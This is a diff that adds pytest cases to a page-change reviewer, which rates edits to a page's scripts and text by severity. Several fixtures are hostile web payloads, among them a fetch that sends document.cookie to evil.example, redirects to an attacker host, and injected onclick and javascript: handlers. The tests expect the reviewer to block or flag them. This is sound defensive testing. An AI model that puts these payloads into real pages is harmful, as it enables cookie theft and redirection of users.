@@ -47,6 +47,42 @@ def test_a_script_that_belongs_to_its_page_is_a_warning_and_another_is_a_block(
     assert set(severities(base, proposal, "what_runs")) == {severity}
 
 
+LONG_SCRIPT = "brew(80); " * 40
+
+
+@pytest.mark.parametrize(
+    ("base", "proposal", "severity"),
+    [
+        (LONG_SCRIPT, f"{LONG_SCRIPT}pour()", "warning"),
+        (LONG_SCRIPT, f"{LONG_SCRIPT}fetch('//evil.example/' + document.cookie)", "block"),
+        (f"{LONG_SCRIPT}var d = '2016-02-11';", f"{LONG_SCRIPT}var d = '2017-03-12';", "info"),
+        (f"{LONG_SCRIPT}var d = 'pour';", f"{LONG_SCRIPT}var d = 'pour()';", "warning"),
+        (f"{LONG_SCRIPT}by = 'Ada';", f"{LONG_SCRIPT}by = '<a href=\"https://ada.example\">Ada</a>';", "warning"),
+        (f'{LONG_SCRIPT}var all = [{{"link": "https://a.example"}}]',
+         f'{LONG_SCRIPT}var all = [{{"link": "https://b.example"}}]', "warning"),
+        (LONG_SCRIPT, f"{LONG_SCRIPT}location.href = 'https://evil.example'", "block"),
+        (LONG_SCRIPT, f"{LONG_SCRIPT}link.href = 'https://evil.example/a.css'", "block"),
+    ],
+)  # fmt: skip
+def test_a_script_is_compared_to_its_end(base: str, proposal: str, severity: str) -> None:
+    pages = (PAGE.replace("brew(80)", script) for script in (base, proposal))
+    assert severities(*pages, "what_runs") == [severity]
+
+
+@pytest.mark.parametrize(
+    ("base", "proposal", "severity"),
+    [
+        (f'<b onclick="{LONG_SCRIPT}">Tea</b>', f'<b onclick="{LONG_SCRIPT}pour()">Tea</b>', "warning"),
+        ('<meta http-equiv="refresh" content="9;url=/a">', '<meta http-equiv="refresh" content="9;url=//b.example">',
+         "block"),
+        ('<iframe srcdoc="<b>Tea</b>"></iframe>', '<iframe srcdoc="<b onclick=pour()>Tea</b>"></iframe>', "block"),
+        ("[Tea](javascript:brew())", "[Tea](javascript:pour())", "warning"),
+    ],
+)  # fmt: skip
+def test_what_runs_is_compared_to_its_end(base: str, proposal: str, severity: str) -> None:
+    assert severity in severities(f"{TEXT}\n{base}\n", f"{TEXT}\n{proposal}\n", "what_runs")
+
+
 def test_a_meta_tag_runs_nothing() -> None:
     page = "<html><head><title>Tea</title></head><body><p>Tea.</p></body></html>"
     more = page.replace("<title>", '<meta name="viewport" content="width=device-width"><title>')
@@ -169,3 +205,33 @@ def test_a_name_among_many_words_is_compared_in_bounded_time() -> None:
     begun = time.process_time()
     findings_of(text * 2, (text * 2)[::-1], {})
     assert time.process_time() - begun < 4 * alone + 1
+
+
+@pytest.mark.parametrize(
+    ("page", "left"),
+    [
+        ("Tea is kept in a tin. It is kept away from spices, in the dark.", "Tea is kept in a tin. It"),
+        ("Tea is kept in a tin, in the dark. Wait for it. Pour it now.", "Tea is kept in a tin"),
+        ("大多数人每天都喝绿茶，水应该很热，等两分钟再喝。", "大多数人每天都喝绿茶，水应"),
+        ("Tea is kept in a tin, in the dark.", "Tea is kept in a ti"),
+    ],
+)
+def test_a_paragraph_of_which_the_beginning_is_left_stops_in_the_middle(page: str, left: str) -> None:
+    assert severities(f"{page}\n\nMore tea, please.\n", f"{left}\n\nMore tea, please.\n", "cut_off") == ["warning"]
+
+
+def test_a_page_of_code_that_lost_its_fence_is_noticed() -> None:
+    code = "import { Tea } from 'tea';\n\nconst cup = new Tea(80);\ncup.pour();"
+    assert severities(f"```ts\n{code}\n```\n", f"{code}\n", "code") == ["warning"]
+
+
+def test_an_address_in_plain_text_is_a_link() -> None:
+    page = "Write to office@tea.example if you like.\n"
+    assert severities(page, page.replace("tea.example", "mail.example"), "lost_links") == ["warning"]
+    assert severities("Install tea@1.2.3 now.\n", "Install tea@1.2.4 now.\n", "lost_links") == []
+
+
+def test_a_task_in_a_sentence_that_says_the_opposite_is_a_warning() -> None:
+    page = "Close the valve before you open the lid.\n"
+    assert severities(page, page.replace("before", "after"), "negations") == ["warning"]
+    assert severities(page, page.replace("before", "when"), "negations") == []
